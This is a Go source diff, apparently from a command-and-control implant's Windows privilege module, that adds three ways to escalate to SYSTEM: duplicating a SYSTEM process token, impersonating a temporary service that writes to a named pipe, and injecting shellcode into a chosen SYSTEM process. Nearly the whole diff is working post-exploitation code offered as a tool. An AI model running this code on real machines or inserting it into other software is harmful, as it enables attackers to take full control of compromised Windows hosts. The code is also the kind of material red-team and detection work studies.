@@ -24,10 +24,11 @@ import (
 	// {{if .Debug}}
 	"log"
 	// {{end}}
+	"crypto/rand"
+	"encoding/hex"
 	"fmt"
-	"os/exec"
 	"runtime"
-	"syscall"
+	"time"
 
 	"golang.org/x/sys/windows"
 	"golang.org/x/sys/windows/registry"
@@ -39,8 +40,25 @@ import (
 
 const (
 	THREAD_ALL_ACCESS = windows.STANDARD_RIGHTS_REQUIRED | windows.SYNCHRONIZE | 0xffff
+
+	PIPE_ACCESS_DUPLEX = 0x3
+	PIPE_TYPE_BYTE     = 0x0
+	PIPE_WAIT          = 0x0
+
+	// GetSystemToken - Steal the token of a process running as SYSTEM
+	GetSystemToken = "token"
+	// GetSystemNamedPipe - Impersonate a SYSTEM service connecting to a named pipe
+	GetSystemNamedPipe = "namedpipe"
+	// GetSystemInject - Inject a new session into a SYSTEM process
+	GetSystemInject = "inject"
+
+	systemUsername       = "NT AUTHORITY\\SYSTEM"
+	getSystemPipeTimeout = 30 * time.Second
 )
 
+// GetSystemTechniques - Techniques tried in order when none is specified
+var GetSystemTechniques = []string{GetSystemToken, GetSystemNamedPipe, GetSystemInject}
+
 var CurrentToken windows.Token
 
 func SePrivEnable(s string) error {
@@ -222,54 +240,218 @@ func deleteRegistryKey(keyPath, keyName string) (err error) {
 	return
 }
 
-// RunProcessAsUser - Retrieve a primary token belonging to username
-// and starts a new process using that token.
-func RunProcessAsUser(username, command, args string) (out string, err error) {
-	token, err := impersonateUser(username)
+// Impersonate attempts to steal a user token and sets priv.CurrentToken
+// to its value. Other functions can use priv.CurrentToken to start Processes
+// impersonating the user.
+func Impersonate(username string) (token windows.Token, err error) {
+	token, err = impersonateUser(username)
+	if err != nil {
+		//{{if .Debug}}
+		log.Println("impersonateUser failed:", err)
+		//{{end}}
+		return
+	}
+	CurrentToken = token
+	return
+}
+
+// GetSystem - Attempt to elevate to SYSTEM using technique. The token and
+// namedpipe techniques return the SYSTEM token (and leave the calling thread
+// impersonating it), the inject technique starts a new session from data in
+// hostingProcess and returns a null token.
+func GetSystem(technique string, data []byte, hostingProcess string) (token windows.Token, err error) {
+	runtime.LockOSThread()
+	defer runtime.UnlockOSThread()
+	switch technique {
+	case GetSystemToken:
+		token, err = stealSystemToken()
+	case GetSystemNamedPipe:
+		token, err = namedPipeSystemToken()
+	case GetSystemInject:
+		err = injectSystemProcess(data, hostingProcess)
+	default:
+		err = fmt.Errorf("Unknown getsystem technique '%s'", technique)
+	}
+	if err == nil && token != windows.Token(0) {
+		CurrentToken = token
+	}
+	return
+}
+
+func isSystemToken(token windows.Token) bool {
+	user, err := token.GetTokenUser()
+	if err != nil {
+		return false
+	}
+	return user.User.Sid.IsWellKnown(windows.WinLocalSystemSid)
+}
+
+// stealSystemToken - Duplicate the token of the first SYSTEM process we can open
+func stealSystemToken() (token windows.Token, err error) {
+	err = SePrivEnable("SeDebugPrivilege")
+	if err != nil {
+		return
+	}
+	procs, err := ps.Processes()
+	if err != nil {
+		return
+	}
+	for _, proc := range procs {
+		primaryToken, err := getPrimaryToken(uint32(proc.Pid()))
+		if err != nil {
+			continue
+		}
+		system := isSystemToken(*primaryToken)
+		primaryToken.Close()
+		if !system {
+			continue
+		}
+		token, err = impersonateProcess(uint32(proc.Pid()))
+		if err == nil {
+			// {{if .Debug}}
+			log.Println("Got SYSTEM token from process", proc.Pid(), proc.Executable())
+			// {{end}}
+			return token, nil
+		}
+	}
+	windows.RevertToSelf()
+	return token, fmt.Errorf("Could not acquire a token belonging to %s", systemUsername)
+}
+
+// namedPipeSystemToken - Create a service that connects to a named pipe
+// as SYSTEM, then impersonate the pipe client
+func namedPipeSystemToken() (token windows.Token, err error) {
+	nameBuf := make([]byte, 8)
+	rand.Read(nameBuf)
+	name := hex.EncodeToString(nameBuf)
+	pipePath := fmt.Sprintf("\\\\.\\pipe\\%s", name)
+	pipePathPtr, err := windows.UTF16PtrFromString(pipePath)
+	if err != nil {
+		return
+	}
+	pipe, err := syscalls.CreateNamedPipe(pipePathPtr, PIPE_ACCESS_DUPLEX, PIPE_TYPE_BYTE|PIPE_WAIT, 1, 512, 512, 0, nil)
 	if err != nil {
 		// {{if .Debug}}
-		log.Println("Could not impersonate user", username)
+		log.Println("CreateNamedPipe failed:", err)
 		// {{end}}
 		return
 	}
-	cmd := exec.Command(command, args)
-	cmd.SysProcAttr = &windows.SysProcAttr{
-		Token: syscall.Token(token),
+	defer windows.CloseHandle(pipe)
+
+	connected := make(chan struct{})
+	svcErr := make(chan error, 1)
+	go func() {
+		err := runPipeService(name, pipePath)
+		if err == nil {
+			select {
+			case <-connected:
+			case <-time.After(getSystemPipeTimeout):
+				err = fmt.Errorf("Timeout waiting for service to connect to %s", pipePath)
+			}
+		}
+		if err != nil {
+			// Unblock ConnectNamedPipe by connecting to the pipe ourselves
+			client, openErr := windows.CreateFile(pipePathPtr, windows.GENERIC_WRITE, 0, nil, windows.OPEN_EXISTING, 0, 0)
+			if openErr == nil {
+				windows.CloseHandle(client)
+			}
+		}
+		svcErr <- err
+	}()
+
+	err = syscalls.ConnectNamedPipe(pipe, nil)
+	close(connected)
+	if err != nil && err != windows.ERROR_PIPE_CONNECTED {
+		return
+	}
+	// The client must have written to the pipe before we can impersonate it
+	buf := make([]byte, 64)
+	var n uint32
+	err = windows.ReadFile(pipe, buf, &n, nil)
+	if err != nil {
+		if serviceErr := <-svcErr; serviceErr != nil {
+			err = serviceErr
+		}
+		return
 	}
-	// {{if .Debug}}
-	log.Printf("Starting %s as %s\n", command, username)
-	// {{end}}
-	output, err := cmd.Output()
+	err = syscalls.ImpersonateNamedPipeClient(pipe)
 	if err != nil {
 		// {{if .Debug}}
-		log.Println("Command failed:", err)
+		log.Println("ImpersonateNamedPipeClient failed:", err)
 		// {{end}}
 		return
 	}
-	out = string(output)
+	thread, err := windows.GetCurrentThread()
+	if err != nil {
+		windows.RevertToSelf()
+		return
+	}
+	var threadToken windows.Token
+	err = windows.OpenThreadToken(thread, windows.TOKEN_ALL_ACCESS, false, &threadToken)
+	if err != nil {
+		windows.RevertToSelf()
+		return
+	}
+	defer threadToken.Close()
+	if !isSystemToken(threadToken) {
+		windows.RevertToSelf()
+		return token, fmt.Errorf("Pipe client is not %s", systemUsername)
+	}
+	var attr windows.SecurityAttributes
+	err = windows.DuplicateTokenEx(threadToken, windows.TOKEN_ALL_ACCESS, &attr, windows.SecurityImpersonation, windows.TokenPrimary, &token)
+	if err != nil {
+		// {{if .Debug}}
+		log.Println("DuplicateTokenEx failed:", err)
+		// {{end}}
+		windows.RevertToSelf()
+	}
 	return
 }
 
-// Impersonate attempts to steal a user token and sets priv.CurrentToken
-// to its value. Other functions can use priv.CurrentToken to start Processes
-// impersonating the user.
-func Impersonate(username string) (token windows.Token, err error) {
-	token, err = impersonateUser(username)
+// runPipeService - Create and start a SYSTEM service that writes to pipePath,
+// the service is deleted once the service manager gives up on it
+func runPipeService(name, pipePath string) error {
+	manager, err := windows.OpenSCManager(nil, nil, windows.SC_MANAGER_CREATE_SERVICE)
 	if err != nil {
-		//{{if .Debug}}
-		log.Println("impersonateUser failed:", err)
-		//{{end}}
-		return
+		return err
 	}
-	CurrentToken = token
-	return
+	defer windows.CloseServiceHandle(manager)
+	namePtr, err := windows.UTF16PtrFromString(name)
+	if err != nil {
+		return err
+	}
+	cmdLine, err := windows.UTF16PtrFromString(fmt.Sprintf("cmd.exe /c echo %s > %s", name, pipePath))
+	if err != nil {
+		return err
+	}
+	service, err := windows.CreateService(manager, namePtr, namePtr, windows.SERVICE_ALL_ACCESS,
+		windows.SERVICE_WIN32_OWN_PROCESS, windows.SERVICE_DEMAND_START, windows.SERVICE_ERROR_IGNORE,
+		cmdLine, nil, nil, nil, nil, nil)
+	if err != nil {
+		// {{if .Debug}}
+		log.Println("CreateService failed:", err)
+		// {{end}}
+		return err
+	}
+	defer windows.CloseServiceHandle(service)
+	defer windows.DeleteService(service)
+	err = windows.StartService(service, 0, nil)
+	// cmd.exe never reports to the service manager, so a timeout is expected
+	if err != nil && err != windows.ERROR_SERVICE_REQUEST_TIMEOUT {
+		return err
+	}
+	return nil
 }
 
-// GetSystem starts a new RemoteTask in a SYSTEM owned process
-func GetSystem(data []byte, hostingProcess string) (err error) {
-	runtime.LockOSThread()
-	defer runtime.UnlockOSThread()
-	procs, _ := ps.Processes()
+// injectSystemProcess - Start a new session by injecting data into hostingProcess
+func injectSystemProcess(data []byte, hostingProcess string) error {
+	if len(data) == 0 {
+		return fmt.Errorf("No shellcode to inject")
+	}
+	procs, err := ps.Processes()
+	if err != nil {
+		return err
+	}
 	for _, p := range procs {
 		if p.Executable() == hostingProcess {
 			err = SePrivEnable("SeDebugPrivilege")
@@ -277,17 +459,16 @@ func GetSystem(data []byte, hostingProcess string) (err error) {
 				// {{if .Debug}}
 				log.Println("SePrivEnable failed:", err)
 				// {{end}}
-				return
+				return err
 			}
 			err = taskrunner.RemoteTask(p.Pid(), data, false)
 			if err != nil {
 				// {{if .Debug}}
 				log.Println("RemoteTask failed:", err)
 				// {{end}}
-				return
 			}
-			break
+			return err
 		}
 	}
-	return
+	return fmt.Errorf("Could not find process %s", hostingProcess)
 }